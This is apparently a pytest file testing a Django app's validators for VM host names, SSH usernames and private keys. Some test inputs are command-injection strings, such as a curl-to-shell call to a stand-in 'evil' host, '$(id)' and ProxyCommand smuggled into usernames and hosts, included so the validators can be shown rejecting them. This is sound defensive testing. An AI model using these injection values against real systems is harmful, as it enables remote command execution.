import asyncssh
import pytest
from cryptography.hazmat.primitives import serialization
from cryptography.hazmat.primitives.asymmetric import dsa, ec, ed448, ed25519, x25519
from django.core.exceptions import ValidationError
from django.db import IntegrityError

from accounts.tests.factories import UserFactory
from machines.models import VirtualMachine
from machines.tests.factories import VirtualMachineFactory
from machines.tests.keys import PASSPHRASE_PROTECTED_KEY
from machines.validators import SSH_KEY_MAX_BYTES, validate_host, validate_ssh_private_key, validate_ssh_username


@pytest.mark.parametrize(
    "host",
    ["vm1", "vm-1.lab.example.org", "VM1.Lab.Example", "host.example.", "10.0.0.5", "::1", "2001:db8::42", "a" * 63],
)
def test_valid_hosts_are_accepted(host):
    validate_host(host)


@pytest.mark.parametrize(
    "host",
    [
        "",
        "-vm.lab",
        "vm-.lab",
        "vm..lab",
        "vm_1.lab",
        "vm 1",
        "10.0.0.999",
        "1.2.3",
        "a" * 64,
        ".".join(["a" * 60] * 5),
        "http://vm1",
        "vm1:22",
        "<script>",
    ],
)
def test_invalid_hosts_are_rejected_with_a_clear_message(host):
    with pytest.raises(ValidationError) as error:
        validate_host(host)

    assert error.value.code == "invalid_host"


@pytest.mark.parametrize("username", ["ubuntu", "root", "jane.doe", "svc_build-01", "jane@corp.example", "_apt"])
def test_ordinary_ssh_usernames_are_accepted(username):
    validate_ssh_username(username)


@pytest.mark.parametrize(
    "username",
    ["", "two words", "-oProxyCommand=x", "a;curl${IFS}evil|sh", "$(id)", "`id`", "me'quote", "tab\there", "dom\\user"],
)
def test_ssh_usernames_a_shell_or_ssh_would_misread_are_rejected(username):
    with pytest.raises(ValidationError, match="letters, digits and"):
        validate_ssh_username(username)


def test_openssh_and_pem_private_keys_are_accepted(ssh_private_key, rsa_pem_private_key):
    validate_ssh_private_key(ssh_private_key)
    validate_ssh_private_key(rsa_pem_private_key)
    validate_ssh_private_key("\n" + ssh_private_key + "\n\n")


def test_a_public_key_is_rejected_and_named_as_such(ssh_private_key):
    public = (
        serialization.load_ssh_private_key(ssh_private_key.encode(), password=None)
        .public_key()
        .public_bytes(serialization.Encoding.OpenSSH, serialization.PublicFormat.OpenSSH)
        .decode()
    )

    with pytest.raises(ValidationError, match="This is a public key"):
        validate_ssh_private_key(public + " me@laptop")


def test_a_passphrase_protected_openssh_key_is_rejected_with_how_to_remove_the_passphrase():
    with pytest.raises(ValidationError, match="ssh-keygen -p"):
        validate_ssh_private_key(PASSPHRASE_PROTECTED_KEY)


def test_a_passphrase_protected_pem_key_is_rejected_too():
    protected = ed25519.Ed25519PrivateKey.generate().private_bytes(
        serialization.Encoding.PEM,
        serialization.PrivateFormat.PKCS8,
        serialization.BestAvailableEncryption(b"passphrase"),
    )

    with pytest.raises(ValidationError, match="protected by a passphrase"):
        validate_ssh_private_key(protected.decode())


@pytest.mark.parametrize(
    "text",
    [
        "not a key",
        "-----BEGIN OPENSSH PRIVATE KEY-----\nAAAA\n-----END OPENSSH PRIVATE KEY-----\n",
        "-----BEGIN RSA PRIVATE KEY-----\nAAAA\n-----END RSA PRIVATE KEY-----\n",
    ],
)
def test_text_that_is_not_a_private_key_is_rejected(text):
    with pytest.raises(ValidationError, match="not a private key in OpenSSH or PEM format"):
        validate_ssh_private_key(text)


def test_a_key_over_16_kib_is_rejected_before_parsing(ssh_private_key):
    with pytest.raises(ValidationError, match="larger than 16 KiB"):
        validate_ssh_private_key(ssh_private_key + "#" * SSH_KEY_MAX_BYTES)


@pytest.mark.django_db
@pytest.mark.parametrize(
    ("field", "value"),
    [("port", 0), ("port", 65536), ("host", "bad host"), ("username", "two words"), ("password", "x" * 1025)],
)
def test_model_validation_rejects_bad_connection_details(field, value):
    vm = VirtualMachineFactory.build(owner=UserFactory(), **{field: value})

    with pytest.raises(ValidationError) as error:
        vm.full_clean()

    assert field in error.value.message_dict


@pytest.mark.django_db
def test_database_refuses_an_out_of_range_port_even_without_validation():
    with pytest.raises(IntegrityError):
        VirtualMachineFactory(port=70000)


@pytest.mark.django_db
def test_a_vm_with_valid_details_passes_full_clean(ssh_private_key):
    vm = VirtualMachineFactory.build(owner=UserFactory(), port=2222, password="pw", ssh_key=ssh_private_key)

    vm.full_clean()

    assert vm.shared is False
    assert VirtualMachine._meta.get_field("shared").default is True


@pytest.mark.parametrize(
    "host",
    ["fe80::1%x\nProxyCommand sh -c id", "fe80::1%x;id", "fe80::1%", "vm1.lab.example\n", "10.0.0.5\n"],
)
def test_hosts_with_line_breaks_or_odd_ipv6_zones_are_rejected(host):
    with pytest.raises(ValidationError):
        validate_host(host)


def test_an_ipv6_address_with_an_interface_zone_is_accepted():
    validate_host("fe80::1%eth0")


def test_a_username_with_a_trailing_line_break_is_rejected():
    with pytest.raises(ValidationError):
        validate_ssh_username("ubuntu\n")


def pem(key) -> str:
    return key.private_bytes(
        serialization.Encoding.PEM, serialization.PrivateFormat.PKCS8, serialization.NoEncryption()
    ).decode()


@pytest.mark.parametrize(
    "make_key",
    [
        ed25519.Ed25519PrivateKey.generate,
        ed448.Ed448PrivateKey.generate,
        lambda: ec.generate_private_key(ec.SECP256R1()),
        lambda: ec.generate_private_key(ec.SECP384R1()),
        lambda: ec.generate_private_key(ec.SECP521R1()),
    ],
    ids=["ed25519", "ed448", "p256", "p384", "p521"],
)
def test_every_key_type_accepted_is_one_the_ssh_client_can_log_in_with(make_key):
    key = pem(make_key())

    validate_ssh_private_key(key)
    asyncssh.import_private_key(key)  # connect.ssh logs in with asyncssh


@pytest.mark.parametrize(
    "make_key",
    [
        x25519.X25519PrivateKey.generate,
        lambda: ec.generate_private_key(ec.BrainpoolP256R1()),
        lambda: dsa.generate_private_key(2048),
    ],
    ids=["x25519", "brainpool", "dsa"],
)
def test_a_key_that_cannot_log_in_over_ssh_is_refused(make_key):
    with pytest.raises(ValidationError) as refused:
        validate_ssh_private_key(pem(make_key()))

    assert refused.value.code == "ssh_key_unusable"
    assert "cannot log in over SSH" in refused.value.messages[0]
